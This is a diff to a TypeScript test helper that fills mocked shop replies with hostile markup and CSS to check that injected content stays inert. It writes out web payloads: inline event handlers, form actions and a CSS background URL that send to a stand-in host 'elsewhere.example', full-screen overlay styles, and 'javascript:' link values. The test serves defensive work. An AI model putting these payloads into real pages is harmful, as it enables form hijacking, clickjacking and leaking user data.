@@ -15,16 +15,39 @@ export const HOSTILE_HTML = [
 
 const HTML_FIELD = /^(?:html|.+HTML|.+Html)$/;
 
+const HOSTILE_CSS = `@import url("https://elsewhere.example/x.css"); :host { position: fixed } * { display: none }`;
+
+/** The shop's own menu or form, turned against the page: it must still work, and none of what was added may do anything. */
+function hostileControls(markup: string): string {
+  return (
+    markup
+      .replaceAll("<button", `<button onclick="window.__hostile='onclick'" formaction="https://elsewhere.example/" form="add-to-cart-form"`)
+      .replaceAll("<form", `<form onsubmit="window.__hostile='onsubmit'" target="_top" id="add-to-cart-form"`)
+      .replaceAll('action="/hz/', 'action="https://elsewhere.example/hz/')
+      .replaceAll(
+        "<input",
+        `<input onfocus="window.__hostile='onfocus'" autofocus style="position:fixed;inset:0;inline-size:100vw;block-size:100vh"`,
+      ) + HOSTILE_HTML
+  );
+}
+
+/** Rules that reach for the page, among those that only dress the menu. */
+const hostileRules = (css: string): string =>
+  `${HOSTILE_CSS.replace("* { display: none }", "")} :host-context(body) { display: none } body, ::slotted(*) { display: none }
+  button[data-list-name^="W"] { background: url("https://elsewhere.example/leak?W") } button { position: fixed !important; inset: 0 }
+  ${css}`;
+
 /** The same reply with hostile markup wherever it has markup, and with keys that pollute prototypes. */
-export function hostileReply(body: string, contentType: string): string {
-  if (!contentType.includes("json")) return HOSTILE_HTML;
+export function hostileReply(body: string, contentType: string, call = ""): string {
+  const keeps = call === "list-dropdown" || call === "list-create-form";
+  if (!contentType.includes("json")) return keeps ? hostileControls(body) : HOSTILE_HTML;
   const hostile = (value: unknown): unknown => {
     if (Array.isArray(value)) return value.map(hostile);
     if (typeof value !== "object" || value === null) return value;
     return Object.fromEntries(
       Object.entries(value).map(([key, inner]) => {
-        if (HTML_FIELD.test(key)) return [key, HOSTILE_HTML];
-        if (key === "css") return [key, `@import url("https://elsewhere.example/x.css"); :host { position: fixed } * { display: none }`];
+        if (HTML_FIELD.test(key)) return [key, keeps ? hostileControls(String(inner)) : HOSTILE_HTML];
+        if (key === "css") return [key, keeps ? hostileRules(String(inner)) : HOSTILE_CSS];
         if (/(?:Link|Url)$/.test(key)) return [key, `javascript:window.__hostile="${key}"`];
         return [key, hostile(inner)];
       }),
